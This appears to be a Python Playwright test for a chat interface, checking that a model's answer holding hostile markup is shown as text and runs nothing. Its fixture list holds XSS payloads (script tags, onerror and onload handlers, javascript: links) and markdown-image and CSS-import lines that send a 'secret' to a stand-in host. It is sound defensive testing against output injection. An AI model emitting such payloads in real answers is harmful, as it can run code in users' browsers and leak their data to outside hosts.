"""What a model says is a stranger's text: it is read, and does nothing."""

from __future__ import annotations

from playwright.async_api import expect

from tests.browser.conftest import Visit
from tests.support.engine import ScriptedEngine

HOSTILE = (
    "<script>window.hurt=1</script>",
    "<img src=x onerror='window.hurt=1'>",
    "![leak](https://evil.example/leak?q=secret)",
    "[click](javascript:window.hurt=1)",
    "[ref][1]\n\n[1]: https://evil.example/leak",
    "<svg onload='window.hurt=1'></svg>",
    "<iframe srcdoc='<script>parent.hurt=1</script>'></iframe>",
    "$\\href{javascript:window.hurt=1}{x}$",
    "<style>@import 'https://evil.example/leak.css'</style>",
)


async def test_nothing_runs_and_nothing_leaves(visit: Visit, engine: ScriptedEngine) -> None:
    engine.says(*(f"{each}\n\n" for each in HOSTILE), "The end.")
    page = await visit()
    asked: list[str] = []
    page.on("request", lambda request: asked.append(request.url))
    dialogs: list[str] = []
    page.on("dialog", lambda dialog: dialogs.append(dialog.message))
    await page.get_by_label("Your question").fill("Be evil")
    await page.keyboard.press("Enter")
    await expect(page.get_by_role("button", name="Answer again")).to_be_visible()
    await expect(page.get_by_text("The end.").first).to_be_visible()
    assert await page.evaluate("window.hurt") is None
    assert dialogs == []
    assert not [url for url in asked if "evil" in url]
    assert await page.locator(".prose img, .prose iframe, .prose script").count() == 0
    for link in await page.locator(".prose a").all():
        assert "noreferrer" in (await link.get_attribute("rel") or "")
        assert not (await link.get_attribute("href") or "").startswith("javascript:")
